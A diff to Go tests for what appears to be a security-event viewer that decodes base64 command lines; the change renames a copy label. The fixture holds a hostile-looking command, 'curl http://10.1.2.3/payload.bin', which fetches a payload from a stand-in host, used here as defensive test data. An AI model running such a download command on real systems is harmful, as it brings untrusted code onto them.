@@ -89,7 +89,7 @@ func TestHiddenTextStandsBelowItsValue(t *testing.T) {
 	m := shown(event(), 80, 60)
 	wants(t, m, "in base64", "curl http://10.1.2.3/payload.bin")
 	find(m, "curl")
-	if got, want := press(m, "y"), (record.CopyText{Text: "curl http://10.1.2.3/payload.bin", What: "what was decoded from ProcessCommandLine"}); got != want {
+	if got, want := press(m, "y"), (record.CopyText{Text: "curl http://10.1.2.3/payload.bin", What: "text decoded from ProcessCommandLine"}); got != want {
 		t.Errorf("y gives %+v, want %+v", got, want)
 	}
 	press(m, "d")
@@ -145,7 +145,7 @@ func TestSearchGoesThroughAllFinds(t *testing.T) {
 		found = append(found, copied.What)
 		press(m, "n")
 	}
-	if got, want := strings.Join(found, ", "), "what was decoded from ProcessCommandLine, RemoteIP, what was decoded from ProcessCommandLine"; got != want {
+	if got, want := strings.Join(found, ", "), "text decoded from ProcessCommandLine, RemoteIP, what was decoded from ProcessCommandLine"; got != want {
 		t.Errorf("n goes to %s, want %s", got, want)
 	}
 	if !m.Escape() || m.Escape() {
